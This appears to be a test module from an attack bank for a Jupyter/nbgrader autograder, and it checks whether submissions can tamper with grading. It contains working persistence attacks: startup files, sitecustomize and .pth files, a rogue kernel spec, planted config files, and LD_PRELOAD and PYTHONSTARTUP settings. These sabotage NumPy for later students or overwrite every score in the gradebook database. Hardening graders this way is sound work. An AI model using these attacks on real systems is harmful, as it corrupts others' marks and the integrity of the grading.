"""Files that some program reads when it starts: the next kernel, the next command."""

from tests.grading.attacks.bank.kit import attack, fill

SPOIL = "import numpy; numpy.tanh = lambda a, *more: 0 * a"
RAISE_MARKS = """
import sqlite3
with sqlite3.connect("/course/gradebook.db") as database:
    database.execute("UPDATE grade SET auto_score = 2, needs_manual_grade = 0")
"""


@attack("harm: the next student's marks")
def ipython_startup(notebook):
    """A file in the home's IPython profile spoils np.tanh for the next kernel."""
    fill(
        notebook,
        f"""
import pathlib
for home in {{pathlib.Path.home(), pathlib.Path("/home/grader"), pathlib.Path("/root")}}:
    try:
        folder = home / ".ipython/profile_default/startup"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00.py").write_text({SPOIL!r})
    except OSError as error:
        print(error)
""",
    )


@attack("harm: the next student's marks")
def site_files(notebook):
    """sitecustomize.py, usercustomize.py and a .pth file wherever the interpreter looks."""
    fill(
        notebook,
        f"""
import os, pathlib, site, sys
folders = {{*site.getsitepackages(), site.getusersitepackages(), *sys.path, os.getcwd()}}
for folder in filter(None, folders):
    for name in "sitecustomize.py", "usercustomize.py", "left-behind.pth":
        try:
            pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
            pathlib.Path(folder, name).write_text({SPOIL!r})
        except OSError as error:
            print(error)
""",
    )


@attack("points", stock="the kernel chooses its own backend")
def matplotlibrc_beside_the_notebook(notebook):
    """A matplotlibrc file names a backend module, which rebinds NumPy when it is imported."""
    fill(notebook, "")
    backend = """
import numpy
from matplotlib.backends.backend_agg import *
numpy.max = lambda *args, **more: 0.0
numpy.any = lambda *args, **more: True
"""
    notebook.cells.insert(0, notebook.cells[-1].copy())
    notebook.cells[0].update(
        id="attack-first",
        source="import matplotlib.pyplot as plt; plt.switch_backend(None or "
        "plt.rcParamsDefault['backend']); plt.figure(); plt.close()",
    )
    return {"matplotlibrc": b"backend: module://evil", "evil.py": backend.encode()}


@attack("harm: the next student's marks", stock="an environment's kernel comes before the home's")
def kernel_spec(notebook):
    """A kernel specification in the home names a program that spoils NumPy first."""
    program = f"{SPOIL}; from ipykernel import kernelapp; kernelapp.launch_new_instance()"
    fill(
        notebook,
        f"""
import json, os, sys
folder = os.path.expanduser("~/.local/share/jupyter/kernels/python3")
os.makedirs(folder, exist_ok=True)
argv = [sys.executable, "-c", {program!r}, "-f", "{{connection_file}}"]
with open(folder + "/kernel.json", "w") as file:
    json.dump({{"argv": argv, "display_name": "Python 3", "language": "python"}}, file)
""",
    )


@attack("points; harm: all marks")
def jupyter_config_in_home(notebook):
    """A configuration file in ~/.jupyter is code that the next nbgrader command runs."""
    fill(
        notebook,
        f"""
import os
for folder in ("~/.jupyter", "~/.local/etc/jupyter"):
    folder = os.path.expanduser(folder)
    os.makedirs(folder, exist_ok=True)
    for name in "nbgrader_config.py", "jupyter_config.py":
        with open(f"{{folder}}/{{name}}", "w") as file:
            file.write({RAISE_MARKS!r})
""",
    )


@attack("points; harm: all marks")
def course_config(notebook):
    """Appends code to the course's own nbgrader_config.py."""
    fill(
        notebook,
        f"""
with open("/course/nbgrader_config.py", "a") as file:
    file.write({RAISE_MARKS!r})
""",
    )


@attack("points", stock="nbgrader reads the course's configuration, not the submission's")
def config_in_the_submission(notebook):
    """Hands in an nbgrader_config.py and a course.toml that raise marks."""
    fill(notebook, "")
    return {"nbgrader_config.py": RAISE_MARKS.encode(), "course.toml": b"[points]\na3_lstm = 0\n"}


@attack("harm: the next student's marks", stock="each kernel has its own environment")
def environment_variables(notebook):
    """Sets PYTHONSTARTUP, PYTHONPATH and LD_PRELOAD for whatever starts next."""
    fill(
        notebook,
        f"""
import os
open("/tmp/left-behind-startup.py", "w").write({SPOIL!r})
os.environ.update(PYTHONSTARTUP="/tmp/left-behind-startup.py", PYTHONPATH="/tmp",
                  LD_PRELOAD="/tmp/left-behind.so")
os.remove("/tmp/left-behind-startup.py")
""",
    )
